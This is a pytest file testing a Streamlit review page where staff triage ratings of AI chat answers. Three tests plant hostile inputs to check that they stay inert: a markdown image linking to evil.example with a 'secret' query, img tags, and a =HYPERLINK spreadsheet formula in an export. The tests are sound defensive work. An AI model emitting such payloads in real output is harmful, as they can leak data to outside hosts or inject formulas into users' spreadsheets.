from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from streamlit.testing.v1 import AppTest
from streamlit.testing.v1.element_tree import Block

from core.knowledge.records import StoredFile
from core.people.audit_records import AuditFilter
from core.people.records import Role
from core.review.cases.changes import CaseChange
from core.review.cases.opening import put_rating
from core.review.cases.records import CaseQuery, CaseState, Priority, ReviewCase
from core.review.datasets.records import DatasetSettings, Format, Source
from data.unit_of_work import SqlUnitOfWork
from pages.review.cases import PAGE
from pages.widgets.review.case_csv import case_csv
from pages.widgets.review.case_views import CLOSED, EVERY, NEEDED, QUERIES
from tests.pages.seeded import Stage, as_role, page, stage, texts


@pytest.fixture
def seeded(tmp_path) -> Iterator[Stage]:
    made = stage(tmp_path)
    yield made
    made.portal.close()


def rows(drawn: AppTest) -> list[int]:
    return [int(button.key.removeprefix("rrow-")) for button in drawn.button if button.key.startswith("rrow-")]


def cases(made: Stage, view: str = EVERY, **filter: object) -> list[ReviewCase]:
    query = replace(QUERIES[view], **filter)  # type: ignore[arg-type]
    return list(made.portal.case_queue.find(made.admin, query, PAGE).cases)


def feedback(made: Stage, view: str = EVERY, language: str = "en") -> AppTest:
    """Draw the page with this view open."""
    drawn = page("cases", made, language=language)
    drawn.session_state["feedback-view"] = view
    return drawn.run()


def new_case(made: Stage, drawn: AppTest) -> ReviewCase:
    """Open a case that nobody has touched."""
    case = cases(made, NEEDED, states=(CaseState.NEW,))[0]
    drawn.button(key=f"rrow-{case.number}").click().run()
    return case


def shown_plainly(drawn: AppTest) -> str:
    return texts(drawn).replace("\\", "")


def heading(drawn: AppTest) -> str:
    return next(each.value for each in drawn.markdown if each.value.startswith("## "))


def test_no_ratings_says_where_they_come_from(tmp_path) -> None:
    made = stage(tmp_path, empty=True)
    drawn = page("cases", made)
    assert "No ratings yet" in texts(drawn) and not rows(drawn)
    made.portal.close()


def test_only_reviewers_and_admins_see_feedback(seeded: Stage) -> None:
    for role in (Role.ANALYST, Role.MANAGER):
        refused = page("cases", seeded, as_role(seeded.admin, role))
        assert not rows(refused) and "does not allow this" in texts(refused)
    assert rows(page("cases", seeded, as_role(seeded.admin, Role.REVIEWER)))


def test_the_page_opens_on_complaints_that_need_a_look(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    expected = cases(seeded, NEEDED)
    assert not drawn.exception and rows(drawn) == [case.number for case in expected]
    assert all(case.complaint and case.state.is_open for case in expected)
    assert "**A colleague" in texts(drawn) and expected[0].feedback.names_hidden
    assert f"{len(expected)} of {len(expected)} · yours today: 0 looked at, 0 closed" in texts(drawn)


def test_a_view_and_the_filter_narrow_the_list(seeded: Stage) -> None:
    drawn = feedback(seeded, CLOSED)
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED)]
    drawn.segmented_control(key="feedback-rating").set_value(-1).run()
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED, rating=-1)]
    drawn.button(key="feedback-clear").click().run()
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED)]
    drawn.selectbox(key="feedback-model").set_value("GLM-4.5-Air-Q4_K_M").run()
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED, model="GLM-4.5-Air-Q4_K_M")]
    drawn.selectbox(key="feedback-assignee").set_value("mei").run()
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED, model="GLM-4.5-Air-Q4_K_M", assignee="mei")]


def test_both_chosen_days_belong_to_the_range(seeded: Stage) -> None:
    drawn = feedback(seeded)
    day = cases(seeded)[-1].opened_at.date()
    drawn.date_input(key="feedback-dates").set_value((day, day)).run()
    start = datetime(day.year, day.month, day.day, tzinfo=UTC)
    expected = [case.number for case in cases(seeded, since=start, until=start + timedelta(days=1))]
    assert expected and rows(drawn) == expected


def test_search_finds_words_of_the_question_and_says_when_nothing_matches(seeded: Stage) -> None:
    drawn = feedback(seeded)
    case = next(case for case in cases(seeded) if case.feedback.question and "SQL" in case.feedback.question)
    drawn.text_input(key="feedback-search").set_value("logins office").run()
    assert case.number in rows(drawn) and len(rows(drawn)) < len(cases(seeded))
    drawn.text_input(key="feedback-search").set_value("zzyzx").run()
    assert not rows(drawn) and "No cases match" in texts(drawn)
    assert f"Without the search: {len(cases(seeded))}" in texts(drawn)
    drawn.button(key="rvclear").click().run()
    assert rows(drawn) == [case.number for case in cases(seeded)]


def test_the_outcome_of_a_like_case_is_proposed_and_taken_with_a_key(seeded: Stage) -> None:
    portal = seeded.portal
    like: dict[str, list[ReviewCase]] = {}
    for case in cases(seeded, EVERY, rating=-1):
        like.setdefault(case.question_key or "", []).append(case)
    one, other = next(found for key, found in like.items() if key and len(found) > 1)[:2]
    one, other = (portal.case_work.change(seeded.admin, each.number, each.version, CaseChange(state=CaseState.NEW))
                  if not each.state.is_open else each for each in (one, other))  # fmt: skip
    wanted = CaseChange(state=CaseState.FIXED, fix="Rates v4")
    portal.case_work.change(seeded.admin, one.number, one.version, wanted)
    drawn = feedback(seeded)
    drawn.session_state["feedback-case"] = other.number
    drawn.run()
    assert f"**Proposed: Fixed, Rates v4**, as case {one.number}" in texts(drawn)
    drawn.button(key="rvproposed-yes").click().run()
    stored = portal.case_queue.get(seeded.admin, other.number)
    assert not drawn.exception and (stored.state, stored.fix) == (CaseState.FIXED, "Rates v4") and "Proposed" not in texts(drawn)


def test_an_answer_is_corrected_under_it(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.feedback.answer and case.feedback.run_id is None)
    drawn = feedback(seeded)
    drawn.session_state["feedback-case"] = case.number
    drawn.run()
    drawn.button(key="rvkey-w").click().run()
    field = drawn.text_area(key=f"rvcorrect-{case.number}")
    assert field.value == case.feedback.answer
    field.set_value(f"{case.feedback.answer} And more.").run()
    assert "<mark>" in texts(drawn)
    drawn.button(key="rvcorrect-go").click().run()
    assert not drawn.exception and "Corrected by a reviewer" in texts(drawn)
    assert seeded.portal.case_queue.get(seeded.admin, case.number).correction == f"{case.feedback.answer} And more."


def test_next_and_previous_walk_the_list_and_its_pages(seeded: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pages.review.cases.PAGE", 2)
    drawn = feedback(seeded)
    order = [case.number for case in cases(seeded)]
    assert drawn.button(key="icon-rvprev").disabled and rows(drawn) == order[:2]
    for expected in order[1:3]:
        drawn.button(key="icon-rvnext").click().run()
        assert drawn.session_state["feedback-case"] == expected
    assert rows(drawn) == order[2:4]
    drawn.button(key="icon-rvprev").click().run()
    assert drawn.session_state["feedback-case"] == order[1] and rows(drawn) == order[:2]
    drawn.button(key="rvolder").click().run()
    drawn.button(key="rvnewer").click().run()
    assert rows(drawn) == order[:2]


def test_resolving_a_case_asks_for_the_outcome(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    case = new_case(seeded, drawn)
    drawn.button(key="rvresolve").click().run()
    assert drawn.segmented_control(key=f"rvoutcome-{case.number}-not_changed").value is CaseState.NOT_CHANGED
    assert "Read on My feedback. Your name is not shown." in texts(drawn)
    assert seeded.portal.case_queue.get(seeded.admin, case.number).lock is not None, "nobody else resolves it meanwhile"


def test_a_started_review_is_assigned_and_locked(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    number = new_case(seeded, drawn).number
    drawn.button(key="rvstart").click().run()
    stored = seeded.portal.case_queue.get(seeded.admin, number)
    assert (stored.state, stored.assignee_name) == (CaseState.IN_REVIEW, "mei")
    assert stored.lock is not None and stored.lock.holder_id == seeded.admin.id
    assert drawn.button(key="rvstart").disabled
    drawn.button(key="icon-rvnext").click().run()
    assert seeded.portal.case_queue.get(seeded.admin, number).lock is None, "another case was opened"


def test_a_case_that_another_reviewer_works_on_is_read_only_until_it_is_taken_over(seeded: Stage) -> None:
    sara = seeded.portal.accounts.add(None, "zoe", Role.REVIEWER, password="long enough", full_name="Zoe")
    number = cases(seeded, NEEDED)[0].number
    seeded.portal.case_work.start(sara, number)
    drawn = page("cases", seeded)
    assert "**zoe is working on this case**" in texts(drawn)
    assert all(drawn.button(key=key).disabled for key in ("rvresolve", "rvstart", "rvreply", "rvnote"))
    drawn.button(key="rvtakeover").click().run()
    assert "is working on this case" not in texts(drawn) and not drawn.button(key="rvresolve").disabled
    assert seeded.portal.case_queue.get(sara, number).held_by_other(sara.id, datetime.now(UTC)) is not None


def test_a_reply_is_written_under_the_complaint(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    number = rows(drawn)[0]
    drawn.button(key="rvreply").click().run()
    drawn.text_area(key=f"rvreply-{number}").set_value("Which day?").run()
    drawn.button(key="rvreply-go").click().run()
    assert seeded.portal.case_queue.get(seeded.admin, number).reply == "Which day?"
    assert "Which day?" in texts(drawn) and "**mei** replied: Which day?" in shown_plainly(drawn)


def test_a_change_from_an_old_page_is_refused_and_said(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    case = cases(seeded, NEEDED)[0]
    seeded.portal.case_work.change(seeded.admin, case.number, case.version, CaseChange(priority=Priority.HIGH))
    drawn.selectbox(key=f"rvstate-{case.number}-{case.version}").set_value(CaseState.TRIAGED).run()
    assert "Another reviewer has changed this case" in texts(drawn)
    assert seeded.portal.case_queue.get(seeded.admin, case.number).state is case.state


def test_the_properties_are_changed_at_the_right(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    case = new_case(seeded, drawn)
    wanted = (("priority", Priority.HIGH), ("assignee", "mei"), ("state", CaseState.TRIAGED))
    for version, (field, value) in enumerate(wanted, case.version):
        drawn.selectbox(key=f"rv{field}-{case.number}-{version}").set_value(value).run()
    drawn.date_input(key=f"rvdue-{case.number}-{case.version + 3}").set_value(datetime(2020, 1, 2).date()).run()
    stored = seeded.portal.case_queue.get(seeded.admin, case.number)
    assert (stored.priority, stored.assignee_name, stored.state) == (Priority.HIGH, "mei", CaseState.TRIAGED)
    assert stored.due_at == datetime(2020, 1, 2, 23, 59, tzinfo=UTC) and ":red[· overdue]" in drawn.button(key=f"rrow-{case.number}").label


def test_several_cases_are_changed_at_once(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    first, second, third = rows(drawn)[:3]
    drawn.button(key="rvkey-x").click().run()
    assert drawn.checkbox(key=f"rvbox-{first}").value
    drawn.checkbox(key=f"rvbox-{third}").check().run()
    drawn.selectbox(key="rvbulk-state").set_value(CaseState.TRIAGED).run()
    drawn.selectbox(key="rvbulk-assignee").set_value("mei").run()
    drawn.button(key="rvbulk-go").click().run()
    states = {number: seeded.portal.case_queue.get(seeded.admin, number).state for number in (first, second, third)}
    assert states[first] is states[third] is CaseState.TRIAGED and states[second] is not CaseState.TRIAGED
    assert "2 cases changed" in drawn.toast[0].value and not drawn.checkbox[1:]


def test_a_deleted_chat_keeps_its_rating_and_says_that_its_text_is_gone(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.feedback.question)
    owner = next(user for user in seeded.portal.accounts.people(seeded.admin) if user.id == case.feedback.user_id)
    seeded.portal.conversations.delete(owner, case.feedback.conversation_id)
    drawn = feedback(seeded)
    drawn.button(key=f"rrow-{case.number}").click().run()
    assert heading(drawn) == "## Deleted chat" and "deleted this chat" in texts(drawn)


def test_model_text_cannot_load_pictures_or_become_html(seeded: Stage) -> None:
    case = next(case for case in cases(seeded) if case.feedback.answer)
    with SqlUnitOfWork(seeded.portal.database) as work:
        message = work.messages.get(case.feedback.message_id)
        assert message is not None
        hostile = "![x](http://evil.example/?q=secret) <img src=http://evil.example/2>"
        work.messages.finish(message.id, message.status, hostile, "", None)
        work.commit()
    drawn = feedback(seeded)
    drawn.button(key=f"rrow-{case.number}").click().run()
    shown = texts(drawn)
    assert "[x](<http://evil.example/?q=secret>" in shown, "a link"
    assert "![x" not in shown and "<img src=" not in shown


def test_what_reviewers_write_stays_text(seeded: Stage) -> None:
    case = cases(seeded, NEEDED)[0]
    hostile = "![x](http://evil.example/) <img src=http://evil.example/2>"
    change = CaseChange(note=hostile, reply=hostile, fix=hostile, tags=("![x](http://evil)",))
    seeded.portal.case_work.change(seeded.admin, case.number, case.version, change)
    drawn = page("cases", seeded)
    assert not drawn.exception
    written = [each.value for each in [*drawn.markdown, *drawn.caption]]
    assert [each for each in written if "![x]" in each or "<img" in each.replace("\\<", "")] == []


def test_the_page_speaks_chinese(seeded: Stage) -> None:
    drawn = page("cases", seeded, language="zh")
    assert drawn.button(key="icon-rvnext") is not None and any(button.label in ("解决", "重新打开") for button in drawn.button)
    assert "您今天处理" in texts(drawn)


def test_the_export_holds_every_match_and_runs_no_formula(seeded: Stage) -> None:
    case = cases(seeded)[0]
    change = CaseChange(note='=HYPERLINK("http://evil.example","x")')
    seeded.portal.case_work.change(seeded.admin, case.number, case.version, change)
    exported = case_csv(seeded.portal.case_export.all(seeded.admin, CaseQuery())).decode("utf-8-sig")
    lines = list(csv.DictReader(io.StringIO(exported)))
    assert len(lines) == seeded.portal.case_queue.count(seeded.admin, CaseQuery())
    assert next(line["note"] for line in lines if line["number"] == str(case.number)).startswith("'=HYPERLINK")


def test_a_click_keeps_the_list_where_it_is(seeded: Stage) -> None:
    """A container with another key is another container: the browser would draw it anew, scrolled to its top."""

    def panes(drawn: AppTest) -> list[str]:
        return [str(each.key) for each in drawn.main if isinstance(each, Block) and str(each.key).startswith("rv")]

    drawn = feedback(seeded)
    before = panes(drawn)
    assert "rvlist" in before
    drawn.button(key=f"rrow-{rows(drawn)[3]}").click().run()
    assert [each for each in panes(drawn) if each in before] == [each for each in before if each in panes(drawn)]
    assert {"rv", "rvlist", "rvcase", "rvprops"} <= {*panes(drawn)} & {*before}


def test_reopening_has_another_key_than_resolving(seeded: Stage) -> None:
    """Who walks on with J and resolves with E must not undo what was done before."""
    drawn = feedback(seeded, CLOSED)
    assert drawn.button(key="rvreopen").proto.shortcut not in ("", "e")
    drawn.button(key="rvreopen").click().run()
    drawn = feedback(seeded, NEEDED)
    assert drawn.button(key="rvresolve").proto.shortcut == "e"


def test_a_case_shows_the_chat_before_it_its_files_and_its_thinking(seeded: Stage) -> None:
    case = next(case.feedback for case in cases(seeded) if case.feedback.question)
    with SqlUnitOfWork(seeded.portal.database) as work:
        answer = work.messages.get(case.message_id)
        assert answer is not None and answer.parent_id is not None
        question = work.messages.get(answer.parent_id)
        assert question is not None
        chat = question.conversation_id
        asked = replace(question, id="earlier-q", parent_id=question.parent_id, text="What came before?", files=())
        said = replace(answer, id="earlier-a", parent_id="earlier-q", text="Something else came before.")
        work.messages.add(asked)
        work.messages.add(said)
        work.messages.add(replace(question, id="now-q", parent_id="earlier-a", text="And now?"))
        work.messages.add(replace(answer, id="now-a", parent_id="now-q", text="Now this."))
        work.messages.finish("now-a", answer.status, "Now this.", "First I weigh it.", None)
        work.files.add(StoredFile("f1", case.user_id, "ledger.csv", 2100, answer.created_at), b"a,b", None)
        work.files.attach("now-q", chat, ["f1"])
        put_rating(work, replace(case, id="new-case", message_id="now-a", rating=-1, created_at=datetime.now(UTC)))
        made = work.cases.of_feedback("new-case")
        work.commit()
    assert made is not None
    drawn = feedback(seeded)
    drawn.button(key=f"rrow-{made.number}").click().run()
    shown = texts(drawn).replace("\\", "")
    assert "What came before?" in shown and "Something else came before." in shown
    assert "First I weigh it." in shown and "ledger.csv" in shown and "2 kB" in shown


def test_opening_a_case_and_exporting_are_recorded(seeded: Stage) -> None:
    page("cases", seeded)
    list(seeded.portal.case_export.all(seeded.admin, CaseQuery()))
    events = [entry.event for entry in seeded.portal.audit.find(seeded.admin, AuditFilter()).entries]
    opened = [event for event in events if event.action == "feedback.open"]
    assert [event.subject for event in opened] == [cases(seeded, NEEDED)[0].feedback.id]
    assert [event.action for event in events].count("feedback.export") == 1


def test_a_saved_view_shows_its_cases(seeded: Stage) -> None:
    wanted = replace(QUERIES[CLOSED], rating=1)
    view = seeded.portal.case_views.save(seeded.admin, "Good and closed", wanted)
    drawn = feedback(seeded, f"saved-{view.id}")
    assert rows(drawn) == [case.number for case in cases(seeded, CLOSED, rating=1)]


def test_an_answer_is_accepted_for_the_replay_gate_by_who_runs_the_models(seeded: Stage) -> None:
    drawn = page("cases", seeded)
    drawn.button(key="rvaccept").click().run()
    [kept] = seeded.portal.swaps.replays(seeded.admin)
    assert kept.question and kept.accepted
    assert f"Accepted. A swap of {kept.model}" in drawn.toast[0].value.replace("\\", "")
    drawn.button(key="rvaccept").click().run()
    assert "already" in drawn.toast[0].value
    reviewer = page("cases", seeded, as_role(seeded.admin, Role.REVIEWER))
    assert rows(reviewer)
    assert "rvaccept" not in {button.key for button in reviewer.button}


def test_a_case_is_added_to_a_dataset_by_its_tag(seeded: Stage) -> None:
    drawn = feedback(seeded)
    case = new_case(seeded, drawn)
    assert "No dataset takes cases" in texts(drawn.button(key="rvkey-d").click().run())
    settings = DatasetSettings(format=Format.SFT, sources=(Source.GOOD,), tag="Rates")
    for name, wanted in (("Ours", settings), ("Other group", replace(settings, group="Nobody")), ("Untagged", replace(settings, tag=None))):
        seeded.portal.datasets.add(seeded.admin, name, wanted)
    asked = drawn.button(key="rvkey-d").click().run()
    assert asked.selectbox(key=f"rvdata-{case.number}").options == ["Ours"] and "The case gets the tag **Rates**" in texts(asked)
    seeded.portal.case_work.change(seeded.admin, case.number, case.version, CaseChange(add_tags=("Rates",)))
    again = feedback(seeded)
    again.button(key=f"rrow-{case.number}").click().run()
    assert "has the tag **Rates** already" in texts(again.button(key="rvkey-d").click().run())
